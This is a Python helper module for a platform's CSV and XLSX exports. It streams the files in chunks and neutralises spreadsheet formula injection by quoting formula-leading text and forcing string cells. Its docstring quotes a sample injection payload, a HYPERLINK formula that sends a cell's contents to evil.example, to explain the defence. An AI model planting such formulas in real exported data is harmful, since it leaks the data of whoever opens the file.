"""What every CSV and XLSX file the platform hands out does alike, written once.

- ``csv_chunks(headers, rows)``: UTF-8 with a byte-order mark and CRLF (spreadsheet programs
  then read the Chinese right), a batch of lines at a time; each field is ``csv_text``.
- ``csv_text(value)``: ``None`` is an empty field, a date or time its ISO text, and text
  that starts a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) gets a
  leading single quote, as OWASP advises: a provider or service named
  ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would otherwise run when the bureau
  opens the download (CSV injection). Numbers (``-6.00`` as Decimal, int or float) are not
  text and stay as they are.
- ``text_cell(sheet, value)``: a string cell of a write-only sheet whatever the text starts
  with (openpyxl would store a str starting with ``=`` as a formula, which Excel evaluates),
  shown unchanged; ``xlsx_cell(sheet, value)`` makes any value one: text as ``text_cell``,
  an aware time as ISO text (Excel has no time zones: the offset stays visible).
- ``workbook_chunks(workbook)``: a write-only workbook saved to a temporary file (never a
  sheet in memory) and sent in pieces.

Used by the bureau's exports (``vouchers.exports``), its dashboard's and report's tables
(``vouchers.insight.tables``) and the settlement files (``bank_files``, ``statement_xlsx``).
A bank's payment file is not a spreadsheet for people: ``bank_files`` writes its CSV itself
and keeps payee names exactly (documented there). openpyxl is imported only where a cell is
made, never at start-up.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence

BATCH = 1000  # CSV lines per chunk sent
CHUNK = 64 * 1024  # bytes of XLSX per chunk sent
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value) -> str:
    if value is None:
        return ""
    if hasattr(value, "isoformat"):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return str(value)


def csv_chunks(headers: Sequence[str], rows: Iterable[Sequence]) -> Iterator[bytes]:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writerow([str(h) for h in headers])
    for count, row in enumerate(rows, 1):
        writer.writerow([csv_text(value) for value in row])
        if count % BATCH == 0:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def text_cell(sheet, value: str):
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # never a formula
    return cell


def xlsx_cell(sheet, value):
    if isinstance(value, str):
        return text_cell(sheet, value)
    if hasattr(value, "tzinfo") and value.tzinfo is not None:
        return value.isoformat()
    return value


def workbook_chunks(workbook, chunk: int = CHUNK) -> Iterator[bytes]:
    with tempfile.TemporaryFile() as file:
        workbook.save(file)
        file.seek(0)
        while data := file.read(chunk):
            yield data
